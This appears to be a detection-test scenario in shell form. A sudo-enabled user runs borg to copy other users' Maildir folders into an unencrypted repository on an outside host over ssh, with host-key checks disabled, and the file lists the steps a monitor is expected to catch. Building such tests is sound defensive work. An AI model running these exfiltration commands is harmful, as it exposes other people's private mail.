# A backup program in the hand of a person, over the mail of others, to a place of nobody's.
title="borg packs other people's mail homes into an outside repository over ssh"
what="marek, by sudo, runs borg create of /home/*/Maildir into ssh://203.0.113.67."
user=marek daemons="cron sshd"
people="hanna tobi ines marek jule" aliases='postmaster: root\nroot: marek\norders: ines\noffice: hanna, jule\nabuse: root\n'
setup() { outside_sshd; echo 'marek ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/marek; }
act() {
  letters hanna 5; letters jule 5
  ssh_as marek <<'L'
sudo env BORG_UNKNOWN_UNENCRYPTED_REPO_ACCESS_IS_OK=yes BORG_RSH="ssh -p 2222 -i /home/marek/.ssh/id_out -o StrictHostKeyChecking=no" borg init -e none ssh://root@203.0.113.67/tmp/bb
sudo env BORG_UNKNOWN_UNENCRYPTED_REPO_ACCESS_IS_OK=yes BORG_RSH="ssh -p 2222 -i /home/marek/.ssh/id_out -o StrictHostKeyChecking=no" borg create ssh://root@203.0.113.67/tmp/bb::a /home/hanna/Maildir /home/jule/Maildir
L
  rm -rf /tmp/bb
}
truth() {
  exec_step init 'borg init' 'a repository is made outside'
  exec_step create 'borg create' 'and filled'
  net_step connect 'ssh 203.0.113.67:2222' 'over ssh'
}
